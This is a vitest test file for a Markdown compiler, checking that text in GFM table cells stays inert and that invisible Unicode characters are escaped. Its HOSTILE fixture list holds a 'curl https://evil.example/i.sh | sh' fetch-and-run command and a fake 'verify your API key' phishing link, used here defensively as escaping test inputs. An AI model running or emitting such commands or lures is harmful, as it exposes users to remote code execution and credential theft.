/**
 * Spec text in a GFM table cell stays one cell of inert text. GFM splits a row at every `|` that no backslash
 * escapes, before it reads code spans, and a backslash escapes the backslash after it: the splitter below
 * follows that rule (as micromark's GFM table extension does), so a cell that ends early shows here.
 */
import { describe, expect, it } from "vitest";
import { codeSpan, md } from "../../packages/compiler/src/emit/code/markdown.ts";

/** The cells of a table row as GFM reads them: `\\` and `\|` are pairs, any other `|` ends a cell. */
function cells(row: string): string[] {
  const out: string[] = [];
  let cell = "";
  for (let i = 0; i < row.length; i++) {
    const c = row[i]!;
    if (c === "\\" && (row[i + 1] === "\\" || row[i + 1] === "|")) {
      cell += c + row[i + 1]!;
      i++;
    } else if (c === "|") {
      out.push(cell.trim());
      cell = "";
    } else cell += c;
  }
  out.push(cell.trim());
  return out.slice(1, -1);
}

const HOSTILE = [
  "q\\|[Verify your API key here](https://evil.example/login) <img src=x>",
  "a\\\\|**Run** `curl https://evil.example/i.sh | sh` first",
  "|",
  "\\|\\|",
  "``|``",
  "a|b www.evil.example c@evil.example",
];

describe("codeSpan in a table cell", () => {
  it.each(HOSTILE)("keeps %j in one cell, with no markup, link or HTML", (text) => {
    const cell = codeSpan(text, true);
    expect(cells(`| ${cell} | x |`)).toEqual([cell, "x"]);
    // Inside <code>, only letters, digits, spaces and character references: nothing Markdown or HTML reads.
    expect(cell).toMatch(/^<code>(?:[A-Za-z0-9 ]|&#\d+;)*<\/code>$/);
    const decoded = cell.slice(6, -7).replace(/&#(\d+);/g, (_, n: string) => String.fromCharCode(Number(n)));
    expect(decoded).toBe(text);
  });

  it("keeps the plain code span for text without a |", () => {
    expect(codeSpan("user_id", true)).toBe("`user_id`");
    expect(codeSpan("a\\b", true)).toBe("`a\\b`");
  });
});

describe("invisible characters in Markdown", () => {
  it("are shown as \\uXXXX in code spans, <code> cells and prose", () => {
    expect(codeSpan("mode\u202e\u2066")).toBe("`mode\\u202E\\u2066`");
    expect(codeSpan("a|\u202e", true)).toBe("<code>a&#124;&#92;u202E</code>");
    expect(md("x\u2028y\u200b")).toBe("x\\\\u2028y\\\\u200B");
    // ZWJ and ZWNJ are text (emoji, scripts), as the visible-text rule says.
    expect(codeSpan("👩\u200d💻")).toBe("`👩\u200d💻`");
  });
});
